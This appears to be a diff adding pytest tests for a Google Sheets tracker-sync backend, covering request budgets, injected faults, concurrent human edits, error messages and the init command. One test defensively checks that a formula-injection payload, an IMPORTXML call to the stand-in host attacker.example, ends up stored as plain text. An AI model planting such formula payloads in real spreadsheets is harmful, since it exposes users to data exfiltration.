@@ -1,0 +1,475 @@
+"""The Google Sheets backend, end to end: real gspread + google-auth against the local Sheets fake.
+
+Covers the request budget, the fault matrix (every request position x 429 / 500 / 503 /
+timeout / dropped connection, transient and persistent), the concurrent-edit matrix (a person
+inserting, deleting, sorting rows, editing a cell, renaming a header or inserting a column
+between the read and the write), error messages, formula-like text and ``init``.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import json
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.testing import CliRunner
+
+from sync.backends.gsheets import SheetsBackend, spreadsheet_key
+from sync.cli import cli
+from sync.config import Config
+from sync.demo import SEED_ROWS
+from sync.errors import AccessDenied, BackendUnavailable, TrackerNotFound
+from sync.pipeline import RunResult, plan_run, sync
+from sync.rules import RuleSet
+
+from .conftest import SEED_AS_OF, header
+from .sheets_fake import SheetsFake
+
+TAB = "进度表"
+NOW = dt.datetime(2024, 3, 20, 9, 0, tzinfo=dt.UTC)
+HUMAN = 14  # human columns A..N
+
+
+@pytest.fixture
+def fake() -> Iterator[SheetsFake]:
+    with SheetsFake() as f:
+        yield f
+
+
+@pytest.fixture
+def sheet(fake: SheetsFake, ruleset: RuleSet) -> str:
+    return fake.add_spreadsheet(
+        title="Launch",
+        sheets={TAB: [header(ruleset), *[list(r) for r in SEED_ROWS]]},
+        time_zone="Asia/Shanghai",
+    )
+
+
+@pytest.fixture
+def sa(fake: SheetsFake, tmp_path: Path) -> Path:
+    return fake.write_service_account(tmp_path / "sa.json")
+
+
+def make_config(fake: SheetsFake, sheet: str, sa: Path, **google: Any) -> Config:
+    g = {
+        "credentials": str(sa),
+        "api_endpoint": fake.api_endpoint,
+        "timeout": 2,
+        "retry": {"attempts": 4, "max_seconds": 20},
+    } | google
+    return Config.model_validate(
+        {"tracker": {"backend": "gsheets", "spreadsheet": sheet, "worksheet": TAB}, "google": g}
+    )
+
+
+def backend(config: Config, sa: Path) -> SheetsBackend:
+    return SheetsBackend(
+        config.tracker.spreadsheet or "",
+        worksheet=config.tracker.worksheet,
+        summary_title=config.summary_title(),
+        google=config.google,
+        credentials_path=sa,
+        sleep=lambda s: None,  # backoff is asserted by count, not by waiting
+    )
+
+
+def run(config: Config, sa: Path) -> RunResult:
+    return sync(config, as_of=SEED_AS_OF, backend=backend(config, sa), now=NOW)
+
+
+def fresh_plan(config: Config, sa: Path, ruleset: RuleSet) -> Any:
+    snap = backend(config, sa).read()
+    return plan_run(
+        snap, ruleset, as_of=SEED_AS_OF, now=NOW, summary_title=config.summary_title()
+    ).plan
+
+
+def in_sync(config: Config, sa: Path, ruleset: RuleSet) -> bool:
+    plan = fresh_plan(config, sa, ruleset)
+    return (
+        not plan.cells
+        and plan.summary is None
+        and plan.conditional_formats is None
+        and plan.meta is None
+    )
+
+
+# ---------------------------------------------------------------------------- budget
+
+
+def test_first_run_then_steady_state_request_budget(
+    fake: SheetsFake, sheet: str, sa: Path, ruleset: RuleSet
+) -> None:
+    config = make_config(fake, sheet, sa)
+    before = [r[:HUMAN] for r in fake.values(sheet, TAB)]
+    first = run(config, sa)
+    assert first.requests == {"read": 1, "write": 1}  # bootstrap is one atomic batchUpdate
+    assert fake.request_count("batchUpdate") == 1
+    values = fake.values(sheet, TAB)
+    assert values[0][14:] == [
+        "⚙ 计算状态",
+        "⚙ 计划进度%",
+        "⚙ 进度偏差(百分点)",
+        "⚙ 延期天数",
+        "⚙ 健康度",
+        "⚙ 问题",
+        "⚙ 任务ID",
+    ]
+    assert values[1][14:19] == ["延期", 100, -40, 10, "红"]
+    assert values[3][14:19] == ["进行中", 54.5, -24.5, 0, "黄"]
+    assert [r[:HUMAN] for r in values] == before
+    assert fake.sheet_titles(sheet) == [TAB, "推广概览"]
+    assert fake.charts(sheet, "推广概览"), "the summary tab has its chart"
+    formulas = [
+        r["booleanRule"]["condition"]["values"][0]["userEnteredValue"]
+        for r in fake.conditional_formats(sheet, TAB)
+    ]
+    assert '=$O2="延期"' in formulas and '=$S2="黄"' in formulas
+    protected = fake.protected_ranges(sheet, TAB)
+    assert len(protected) == 1 and protected[0]["warningOnly"] is True
+    assert (
+        protected[0]["range"]["startColumnIndex"] == 14
+        and protected[0]["range"]["endColumnIndex"] == 21
+    )
+
+    fake.reset_log()
+    second = run(config, sa)
+    assert second.requests == {"read": 1, "write": 0}
+    assert fake.request_count() == 1
+
+    fake.set_cell(sheet, TAB, 2, 10, "100%")
+    fake.set_cell(sheet, TAB, 2, 9, "2024-03-19")
+    fake.reset_log()
+    third = run(config, sa)
+    assert third.requests == {"read": 1, "write": 1}
+    assert [r.kind for r in fake.requests if r.kind != "token"] == [
+        "get",
+        "values.batchUpdateByDataFilter",
+    ]
+    assert fake.values(sheet, TAB)[1][14:19] == ["已完成", 100, 0, 9, "绿"]
+    assert in_sync(config, sa, ruleset)
+
+
+def test_cli_json_reports_requests(fake: SheetsFake, sheet: str, sa: Path, tmp_path: Path) -> None:
+    cfg = tmp_path / "config.yaml"
+    cfg.write_text(
+        f"tracker:\n  backend: gsheets\n  spreadsheet: https://docs.google.com/spreadsheets/d/{sheet}/edit#gid=0\n"
+        f"google:\n  credentials: {sa.name}\n  api_endpoint: {fake.api_endpoint}\n",
+        encoding="utf-8",
+    )
+    r = CliRunner().invoke(cli, ["run", "-c", str(cfg), "--today", "2024-03-20", "--json"])
+    assert r.exit_code == 0, r.stderr
+    data = json.loads(r.stdout)
+    assert (
+        data["requests"] == {"read": 1, "write": 1}
+        and data["tracker"] == sheet
+        and data["worksheet"] == TAB
+    )
+    again = json.loads(
+        CliRunner().invoke(cli, ["run", "-c", str(cfg), "--today", "2024-03-20", "--json"]).stdout
+    )
+    assert again["requests"] == {"read": 1, "write": 0}
+    assert "token" not in r.stdout.lower() or "access_token" not in r.stdout
+
+
+def test_formula_like_tracker_text_lands_in_the_summary_as_text(
+    fake: SheetsFake, ruleset: RuleSet, sa: Path
+) -> None:
+    evil = '=IMPORTXML("http://attacker.example/x","//a")'
+    rows = [list(r) for r in SEED_ROWS]
+    rows[0][2] = evil  # the delayed task's name
+    sheet = fake.add_spreadsheet(title="L", sheets={TAB: [header(ruleset), *rows]})
+    run(make_config(fake, sheet, sa), sa)
+    summary = fake.values(sheet, "推广概览")
+    hits = [(r, c) for r, row in enumerate(summary) for c, v in enumerate(row) if v == evil]
+    assert hits
+    for r, c in hits:
+        cell = fake.cell(sheet, "推广概览", r + 1, c + 1)
+        assert cell["userEnteredValue"] == {"stringValue": evil}
+
+
+def test_percent_cells_and_serial_dates_are_read(
+    fake: SheetsFake, ruleset: RuleSet, sa: Path
+) -> None:
+    rows = [list(r) for r in SEED_ROWS]
+    rows[0][5], rows[0][6], rows[0][9] = dt.date(2024, 3, 1), dt.date(2024, 3, 10), 0.6
+    sheet = fake.add_spreadsheet(
+        title="L", sheets={TAB: [header(ruleset), *rows]}, number_formats={TAB: {"J2": "0%"}}
+    )
+    result = run(make_config(fake, sheet, sa), sa)
+    assert result.table.data.loc[2, "progress"] == 60.0
+    assert result.table.data.loc[2, "planned_start"].date() == dt.date(2024, 3, 1)
+
+
+# ---------------------------------------------------------------------------- faults
+
+
+def _state(fake: SheetsFake, sheet: str) -> Any:
+    snap = fake.snapshot(sheet)
+    for s in snap["sheets"]:
+        s.get("properties", {}).pop("gridProperties", None)
+    return json.dumps(snap, sort_keys=True, default=str)
+
+
+FAULTS: dict[str, dict[str, Any]] = {
+    "429": {"status": 429, "retry_after": 0},
+    "500": {"status": 500},
+    "503": {"status": 503},
+    "timeout": {"delay": 3},
+    "drop": {"drop": True},
+    "drop-after-apply": {"drop": True, "apply": True},  # the write landed, the reply was lost
+}
+
+
+@pytest.mark.parametrize("persistent", [False, True], ids=["transient", "persistent"])
+@pytest.mark.parametrize("fault", list(FAULTS))
+@pytest.mark.parametrize("scenario", ["first-run", "edit"])
+@pytest.mark.parametrize("position", [1, 2], ids=["read", "write"])
+def test_fault_matrix(
+    fake: SheetsFake,
+    sheet: str,
+    sa: Path,
+    ruleset: RuleSet,
+    scenario: str,
+    fault: str,
+    persistent: bool,
+    position: int,
+) -> None:
+    config = make_config(fake, sheet, sa, timeout=1, retry={"attempts": 3, "max_seconds": 10})
+    if scenario == "edit":
+        run(config, sa)
+        fake.set_cell(sheet, TAB, 2, 10, "90%")
+    before = _state(fake, sheet)
+    fake.inject_fault(at=position, persistent=persistent, times=1, **FAULTS[fault])
+    started = time.monotonic()
+    try:
+        result = run(config, sa)
+        outcome = "ok"
+    except BackendUnavailable as exc:
+        outcome = str(exc)
+        result = None
+    elapsed = time.monotonic() - started
+    fake.clear_faults()
+    assert elapsed < 30, "bounded time"
+    titles = fake.sheet_titles(sheet)
+    assert titles.count("推广概览") <= 1, "never a duplicate summary tab"
+    if outcome == "ok":
+        assert result is not None
+        assert in_sync(config, sa, ruleset), "a run that succeeds leaves the sheet fully synced"
+    else:
+        assert persistent, outcome
+        assert "gave up after" in outcome
+        after = _state(fake, sheet)
+        assert after == before or in_sync(config, sa, ruleset), (
+            "either exactly as before or fully synced"
+        )
+
+
+def test_retry_after_is_honoured(fake: SheetsFake, sheet: str, sa: Path) -> None:
+    config = make_config(fake, sheet, sa)
+    waits: list[float] = []
+    b = backend(config, sa)
+    b.policy.sleep = waits.append
+    fake.inject_fault(at=1, status=429, retry_after=7)
+    sync(config, as_of=SEED_AS_OF, backend=b, now=NOW)
+    assert waits == [7.0]
+
+
+def test_quota_error_says_which_quota_and_when(fake: SheetsFake, sheet: str, sa: Path) -> None:
+    config = make_config(fake, sheet, sa)
+    fake.inject_fault(
+        at=1,
+        status=429,
+        persistent=True,
+        retry_after=30,
+        message="Quota exceeded for quota metric 'Read requests' and limit 'Read requests per minute per user'",
+    )
+    with pytest.raises(BackendUnavailable) as exc:
+        run(config, sa)
+    assert "Read requests per minute per user" in str(exc.value) and "after 30 s" in str(exc.value)
+
+
+# ---------------------------------------------------------------------------- people editing
+
+
+def _ids_match_tasks(
+    fake: SheetsFake, sheet: str, config: Config, sa: Path, ruleset: RuleSet
+) -> None:
+    """Every row that carries generated values carries the values of its own task."""
+    plan = fresh_plan(config, sa, ruleset)
+    values = fake.values(sheet, TAB)
+    for col, series in plan.cells.items():
+        for r in series.index:
+            # a difference is allowed only where nothing was written yet (a row a person just added)
+            assert all(v in (None, "") for v in values[int(r)][14:20]), (col, r, values[int(r)])
+
+
+EDITS: dict[str, Callable[[SheetsFake, str], Any]] = {
+    "insert-row": lambda f, s: f.insert_rows(
+        s,
+        TAB,
+        3,
+        [
+            [
+                "新阶段",
+                "抖音",
+                "新任务",
+                "新描述",
+                "张三",
+                "2024-03-01",
+                "2024-03-05",
+                "-",
+                "-",
+                "0%",
+                "未开始",
+            ]
+        ],
+    ),
+    "delete-row": lambda f, s: f.delete_rows(s, TAB, 2),
+    "sort-rows": lambda f, s: f.sort_rows(s, TAB, 2, 5, 4, descending=True),
+    "edit-cell": lambda f, s: f.set_cell(s, TAB, 4, 5, "王五"),
+    "rename-header": lambda f, s: f.rename_header(s, TAB, "备注", "备注说明"),
+    "insert-column": lambda f, s: f.insert_columns(s, TAB, 3, 1),
+}
+
+
+@pytest.mark.parametrize("edit", list(EDITS))
+@pytest.mark.parametrize("scenario", ["first-run", "steady"])
+def test_concurrent_edit_matrix(
+    fake: SheetsFake, sheet: str, sa: Path, ruleset: RuleSet, scenario: str, edit: str
+) -> None:
+    config = make_config(fake, sheet, sa)
+    if scenario == "steady":
+        run(config, sa)
+        fake.set_cell(sheet, TAB, 2, 10, "70%")
+        fake.set_cell(sheet, TAB, 5, 10, "10%")
+    expected_humans: list[list[Any]] = []
+
+    def person(f: SheetsFake) -> None:
+        EDITS[edit](f, sheet)
+        expected_humans.extend(_humans(f, sheet))
+
+    fake.on_request(2, person)  # right after the read, before the write
+    run(config, sa)
+    assert _humans(fake, sheet) == expected_humans, "no human cell changed by the job"
+    _ids_match_tasks(fake, sheet, config, sa, ruleset)
+    assert fake.sheet_titles(sheet).count("推广概览") == 1
+
+
+def _humans(fake: SheetsFake, sheet: str) -> list[list[Any]]:
+    """Every cell whose column header is not the job's."""
+    values = fake.values(sheet, TAB)
+    head = values[0]
+    human = [c for c, h in enumerate(head) if not str(h).startswith("⚙")]
+    cells = [[row[c] if c < len(row) else None for c in human] for row in values]
+    return [[None if v == "" else v for v in row] for row in cells]  # values() pads rows with ""
+
+
+# ---------------------------------------------------------------------------- errors
+
+
+def test_not_shared_says_whom_to_share_with(fake: SheetsFake, sheet: str, sa: Path) -> None:
+    fake.set_access(sheet, "none")
+    with pytest.raises(
+        AccessDenied,
+        match=r"Share the spreadsheet with tracker-bot@fake-project\.iam\.gserviceaccount\.com as Editor",
+    ):
+        run(make_config(fake, sheet, sa), sa)
+
+
+def test_wrong_key_says_so(fake: SheetsFake, sa: Path) -> None:
+    with pytest.raises(
+        TrackerNotFound, match=r"spreadsheet nope123 not found: check tracker\.spreadsheet"
+    ):
+        run(make_config(fake, "nope123", sa), sa)
+
+
+def test_missing_tab_lists_the_tabs(fake: SheetsFake, sheet: str, sa: Path) -> None:
+    config = make_config(fake, sheet, sa)
+    config = config.model_copy(
+        update={"tracker": config.tracker.model_copy(update={"worksheet": "Plan"})}
+    )
+    with pytest.raises(TrackerNotFound, match=r"no tab named 'Plan'; the tabs are: '进度表'"):
+        run(config, sa)
+
+
+def test_credentials_never_appear_in_errors(
+    fake: SheetsFake, sheet: str, sa: Path, tmp_path: Path
+) -> None:
+    key = json.loads(sa.read_text())["private_key"]
+    fake.set_access(sheet, "none")
+    cfg = tmp_path / "c.yaml"
+    cfg.write_text(
+        f"tracker:\n  backend: gsheets\n  spreadsheet: {sheet}\ngoogle:\n  credentials: {sa}\n  api_endpoint: {fake.api_endpoint}\n",
+        encoding="utf-8",
+    )
+    r = CliRunner().invoke(cli, ["run", "-c", str(cfg)])
+    assert r.exit_code == 3
+    assert key.splitlines()[1] not in r.output and "Bearer" not in r.output
+
+
+def test_missing_credentials_file_is_a_config_error(
+    fake: SheetsFake, sheet: str, tmp_path: Path
+) -> None:
+    cfg = tmp_path / "c.yaml"
+    cfg.write_text(
+        f"tracker:\n  backend: gsheets\n  spreadsheet: {sheet}\ngoogle:\n  credentials: nope.json\n",
+        encoding="utf-8",
+    )
+    r = CliRunner().invoke(cli, ["run", "-c", str(cfg)])
+    assert r.exit_code == 2 and "google.credentials: credentials file" in r.stderr
+
+
+def test_spreadsheet_key_from_url() -> None:
+    assert (
+        spreadsheet_key("https://docs.google.com/spreadsheets/d/abc_DEF-1/edit#gid=0")
+        == "abc_DEF-1"
+    )
+    assert spreadsheet_key(" abc ") == "abc"
+
+
+# ---------------------------------------------------------------------------- init
+
+
+def test_init_adds_a_template_tab_with_protected_generated_columns(
+    fake: SheetsFake, sa: Path, tmp_path: Path
+) -> None:
+    sheet = fake.add_spreadsheet(title="Launch", sheets={"Sheet1": [["notes"]]})
+    cfg = tmp_path / "config.yaml"
+    cfg.write_text(
+        f"tracker:\n  backend: gsheets\n  spreadsheet: {sheet}\ngoogle:\n  credentials: {sa.name}\n  api_endpoint: {fake.api_endpoint}\n",
+        encoding="utf-8",
+    )
+    r = CliRunner().invoke(cli, ["init", "--spreadsheet", sheet, "-c", str(cfg)])
+    assert r.exit_code == 0, r.stderr
+    assert "Added tab '推广进度表'" in r.output
+    assert fake.sheet_titles(sheet) == ["Sheet1", "推广进度表", "推广概览"]
+    head = fake.values(sheet, "推广进度表")[0]
+    assert (
+        head[:3] == ["推广阶段", "推广渠道", "核心任务"]
+        and head[14] == "⚙ 计算状态"
+        and head[20] == "⚙ 任务ID"
+    )
+    props = next(
+        s for s in fake.snapshot(sheet)["sheets"] if s["properties"]["title"] == "推广进度表"
+    )
+    assert props["properties"]["gridProperties"]["frozenRowCount"] == 1
+    status = fake.cell(sheet, "推广进度表", "K2")
+    assert [v["userEnteredValue"] for v in status["dataValidation"]["condition"]["values"]] == [
+        "未开始",
+        "进行中",
+        "已完成",
+        "延期",
+    ]
+    assert (
+        fake.cell(sheet, "推广进度表", "F2")["userEnteredFormat"]["numberFormat"]["type"] == "DATE"
+    )
+    protected = fake.protected_ranges(sheet, "推广进度表")
+    assert protected and all(p["warningOnly"] for p in protected)
+    assert fake.values(sheet, "Sheet1") == [["notes"]], "other tabs untouched"
+    again = CliRunner().invoke(cli, ["init", "--spreadsheet", sheet, "-c", str(cfg)])
+    assert again.exit_code == 3 and "already has a tab named '推广进度表'" in again.stderr
